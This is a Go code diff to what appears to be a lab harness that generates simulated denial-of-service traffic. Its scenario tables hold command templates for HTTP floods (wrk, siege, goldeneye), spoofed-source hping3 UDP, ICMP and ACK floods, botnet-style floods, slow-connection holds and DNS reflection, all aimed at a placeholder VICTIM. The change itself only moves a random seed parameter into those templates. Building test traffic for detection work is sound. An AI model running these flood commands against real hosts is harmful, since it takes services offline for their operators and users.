@@ -32,9 +32,9 @@ func floods() []Scenario {
 		row("wrk-close", true, "wrk -t 1 -c WORKERS -d SECSs -H 'Connection: close' http://VICTIM/terms"),
 		row("siege", true, "siege -q -b -c WORKERS -t SECSS http://VICTIM/"),
 		row("goldeneye", true, "timeout SECS goldeneye http://VICTIM/ -w 2 -s WORKERS -m random"),
-		row("hulk", true, "SELF flood -url http://VICTIM/search -workers WORKERS -rate 20 -for SECSs"),
-		row("hulk-keep", true, "SELF flood -url http://VICTIM/ -keep -workers WORKERS -rate 20 -for SECSs"),
-		row("post-flood", true, "SELF flood -url http://VICTIM/comment -post -workers WORKERS -rate 15 -for SECSs"),
+		row("hulk", true, "SELF flood -url http://VICTIM/search -workers WORKERS -rate 20 -for SECSs -seed SEED"),
+		row("hulk-keep", true, "SELF flood -url http://VICTIM/ -keep -workers WORKERS -rate 20 -for SECSs -seed SEED"),
+		row("post-flood", true, "SELF flood -url http://VICTIM/comment -post -workers WORKERS -rate 15 -for SECSs -seed SEED"),
 		row("connect-flood", true, "SELF dial -to VICTIM:80 -rate 400 -for SECSs"),
 	}
 }
@@ -47,7 +47,7 @@ func floodOne(ctx context.Context, r *Run, line string) error {
 	r.against(r.Shop)
 	line = r.fillFlood(line, r.Shop)
 	if rest, ok := strings.CutPrefix(line, "SELF "); ok {
-		r.actor(ctx, a, "%s -seed %d", rest, r.Uint64())
+		r.actor(ctx, a, "%s", rest)
 		return nil
 	}
 	r.play(ctx, a, "%s", line)
@@ -57,7 +57,7 @@ func floodOne(ctx context.Context, r *Run, line string) error {
 func (r *Run) fillFlood(line string, victim *Host) string {
 	return strings.NewReplacer("CONNS", fmt.Sprint(r.between(60, 400)), "RATE", fmt.Sprint(r.between(10, 100)), "GAP ", fmt.Sprint(r.between(3, 12))+" ",
 		"LENGTH", fmt.Sprint(r.between(25, 40)), "SECS", fmt.Sprint(r.between(5, 12)), "GAPU", fmt.Sprint(r.between(250, 1500)),
-		"SIZE", fmt.Sprint(r.between(20, 1200)), "WORKERS", fmt.Sprint(r.between(10, 80)), "VICTIM", victim.Addr.String()).Replace(line)
+		"SIZE", fmt.Sprint(r.between(20, 1200)), "WORKERS", fmt.Sprint(r.between(10, 80)), "SEED", fmt.Sprint(r.Uint64()), "VICTIM", victim.Addr.String()).Replace(line)
 }
 
 // distributed: many addresses against one, spoofed or with whole connections.
@@ -71,8 +71,8 @@ func distributed() []Scenario {
 		row("spoofed-udp", "timeout SECS hping3 -q -2 --rand-source -p 53 -d SIZE -i uGAPU VICTIM"),
 		row("spoofed-icmp", "timeout SECS hping3 -q -1 --rand-source -d 56 -i uGAPU VICTIM"),
 		row("spoofed-ack", "timeout SECS hping3 -q -A --rand-source -p 443 -i uGAPU VICTIM"),
-		row("botnet-get", "SELF flood -url http://VICTIM/search -from BOTNET -workers BOTS -rate 4 -for SECSs"),
-		row("botnet-post", "SELF flood -url http://VICTIM/login -post -from BOTNET -workers BOTS -rate 3 -for SECSs"),
+		row("botnet-get", "SELF flood -url http://VICTIM/search -from BOTNET -workers BOTS -rate 4 -for SECSs -seed SEED"),
+		row("botnet-post", "SELF flood -url http://VICTIM/login -post -from BOTNET -workers BOTS -rate 3 -for SECSs -seed SEED"),
 		row("botnet-connect", "SELF dial -to VICTIM:80 -from BOTNET -rate 500 -for SECSs"),
 		row("botnet-slow", "SELF dial -to VICTIM:80 -from BOTNET -rate 30 -for 25s -hold 25s -say GET\\x20/\\x20HTTP/1.1\\r\\nHost:\\x20shop\\r\\n"),
 		row("dns-reflection", "SELF reflect -to VICTIM -from BOTNET -port 53 -size 1300 -reflectors BOTS -rate 3000 -for SECSs"),
